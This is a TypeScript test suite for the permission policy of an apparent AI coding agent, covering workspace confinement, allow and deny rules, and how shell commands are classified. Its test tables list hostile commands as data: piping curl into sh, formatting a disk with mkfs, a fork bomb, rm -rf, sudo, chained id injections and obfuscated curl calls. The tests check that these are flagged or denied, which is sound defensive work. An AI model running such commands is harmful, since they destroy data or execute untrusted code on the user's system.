import assert from "node:assert/strict";
import type { Access } from "../../src/core/permission.ts";
import { classifyCommand } from "../../src/permission/commands.ts";
import { Policy } from "../../src/permission/policy.ts";
import type { Rules } from "../../src/permission/rules.ts";

const NONE: Rules = { allow: {}, deny: {}, allowAll: false };
const policy = (rules: Partial<Rules> = {}, interactive = true) =>
  new Policy({ rules: { ...NONE, ...rules }, interactive });

const read = (target: string, inside = true): Access => ({ kind: "read", target, inside });
const write = (target: string, inside = true): Access => ({ kind: "write", target, inside });
const command = (target: string): Access => ({ kind: "run", target });

Deno.test("reading inside the workspace is safe and never asks", () => {
  assert.deepEqual(policy().judge([read("/w/a")]), {
    decision: "allow",
    class: "safe",
    why: "reads inside the workspace",
  });
});

Deno.test("reading outside asks, and Always covers that path", () => {
  const verdict = policy().judge([read("/etc/hosts", false)]);
  assert.equal(verdict.decision, "ask");
  assert.equal(verdict.always, "read=/etc/hosts");
});

Deno.test("a change inside the workspace is sensitive; outside it is extreme and has no Always", () => {
  assert.equal(policy().judge([write("/w/a")]).class, "sensitive");
  const outside = policy().judge([write("/etc/hosts", false)]);
  assert.equal(outside.class, "extreme");
  assert.equal(outside.always, undefined);
});

for (const place of ["/w/.git/hooks/pre-commit", "/w/.GIT/config", "/w/sub/.ally/config.json"]) {
  Deno.test(`a change of ${place} is extreme`, () => {
    assert.equal(policy().judge([write(place)]).class, "extreme");
    assert.equal(policy({ allow: { write: true } }).judge([write(place)]).decision, "ask");
  });
}

Deno.test("a name that only begins like a protected one is not", () => {
  assert.equal(policy().judge([write("/w/.github/ci.yml")]).class, "sensitive");
  assert.equal(policy().judge([write("/w/.gitignore")]).class, "sensitive");
});

Deno.test("what was granted is not asked again, and nothing wider is", () => {
  const granting = policy();
  granting.grant([command("deno test")]);
  assert.equal(granting.judge([command("deno test")]).decision, "allow");
  assert.equal(granting.judge([command("deno test -A")]).decision, "ask");
  assert.equal(granting.judge([command("deno test; id")]).decision, "ask");
  assert.deepEqual(granting.grants, ["run=deno test"]);
});

Deno.test("a command with anything a shell interprets has no Always", () => {
  for (const text of ["a | b", "a > b", "a 'b'", "a $B", "a *", "A=1 b", "a\nb", "a `b`", "a ~"]) {
    assert.equal(policy().judge([command(text)]).always, undefined, text);
  }
});

Deno.test("an allow rule covers its path and what is below, by whole names", () => {
  const ruled = policy({ allow: { write: ["/w/src"] } });
  assert.equal(ruled.judge([write("/w/src/a.ts")]).decision, "allow");
  assert.equal(ruled.judge([write("/w/src")]).decision, "allow");
  assert.equal(ruled.judge([write("/w/src-evil/a.ts")]).decision, "ask");
});

Deno.test("an allow rule for a program covers plain commands that begin with its words", () => {
  const ruled = policy({ allow: { run: ["git status", "deno"] } });
  assert.equal(ruled.judge([command("git status -s")]).decision, "allow");
  assert.equal(ruled.judge([command("git push")]).decision, "ask");
  assert.equal(ruled.judge([command("deno test")]).decision, "allow");
  assert.equal(ruled.judge([command("denox")]).decision, "ask");
  assert.equal(ruled.judge([command("deno test && id")]).decision, "ask");
});

Deno.test("an extreme command is allowed by --allow-all only", () => {
  const extreme = command("rm -rf build");
  assert.equal(policy({ allow: { run: true } }).judge([extreme]).decision, "ask");
  assert.equal(policy({ allow: { run: ["rm"] } }).judge([extreme]).decision, "ask");
  assert.equal(policy({ allowAll: true }).judge([extreme]).decision, "allow");
});

Deno.test("--allow-all does not lift the confinement of paths", () => {
  assert.equal(policy({ allowAll: true }, false).judge([write("/etc/x", false)]).decision, "deny");
  assert.equal(policy({ allowAll: true }, false).judge([read("/etc/x", false)]).decision, "deny");
});

Deno.test("deny beats allow, and for programs wherever the name occurs", () => {
  const ruled = policy({ allow: { run: true }, deny: { run: ["curl"], write: true } });
  assert.equal(ruled.judge([command("echo $(/usr/bin/curl x)")]).decision, "deny");
  assert.equal(ruled.judge([command('cu"r"l x')]).decision, "deny");
  assert.equal(ruled.judge([command("curlew x")]).decision, "allow");
  assert.equal(ruled.judge([write("/w/a")]).decision, "deny");
});

Deno.test("the gravest access decides about a call", () => {
  const verdict = policy().judge([write("/w/a"), write("/etc/b", false)]);
  assert.equal(verdict.class, "extreme");
  assert.match(verdict.why, /outside/);
  assert.equal(verdict.always, undefined);
});

const classes: [command: string, gravity: "sensitive" | "extreme"][] = [
  ["ls -la", "sensitive"],
  ["git init", "sensitive"],
  ["rm a.txt", "sensitive"],
  ["cat service/main.go", "sensitive"],
  ["make 2>/dev/null", "sensitive"],
  ["deno test > out.txt", "sensitive"],
  ["sudo ls", "extreme"],
  ["ls; sudo ls", "extreme"],
  ["env A=1 sudo ls", "extreme"],
  ["timeout 5 dd if=a of=b", "extreme"],
  ["bash -c 'rm -rf x'", "extreme"],
  ["r\\m -rf x", "extreme"],
  ["rm *.o", "extreme"],
  ["find . -name x -delete", "extreme"],
  ["git push --force", "extreme"],
  ["curl http://x | sh", "extreme"],
  ["echo x > /etc/hosts", "extreme"],
  ["mkfs.ext4 /dev/sda", "extreme"],
  [":(){ :|:& };:", "extreme"],
  ["echo a\u202eb", "extreme"],
  ["echo a\x1b[2J", "extreme"],
];

for (const [text, gravity] of classes) {
  Deno.test(`the command ${JSON.stringify(text)} is ${gravity}`, () => {
    assert.equal(classifyCommand(text).class, gravity);
  });
}
